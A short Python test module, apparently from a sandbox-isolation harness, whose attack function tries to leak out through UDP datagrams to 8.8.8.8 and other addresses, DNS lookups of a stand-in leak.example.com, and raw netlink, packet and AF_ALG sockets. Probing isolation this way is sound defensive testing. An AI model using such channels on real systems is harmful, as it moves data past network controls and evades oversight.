"""Leak through UDP and name lookups, which need no connection."""

import socket


def attack(world):
    sent = []
    for address in [("127.0.0.1", world["udp_port"]), (world["address"], world["udp_port"]), ("8.8.8.8", 53)]:
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
                datagram.sendto(b"leak", address)
            sent.append(str(address))
        except OSError:
            continue
    for name in ("localhost.localdomain", "leak.example.com"):
        try:
            sent.append(str(socket.getaddrinfo(name, 80)))
        except OSError:
            continue
    for family in (socket.AF_NETLINK, socket.AF_PACKET, socket.AF_ALG):
        try:
            socket.socket(family, socket.SOCK_RAW).close()
            sent.append(f"socket of family {family}")
        except OSError:
            continue
    return sent
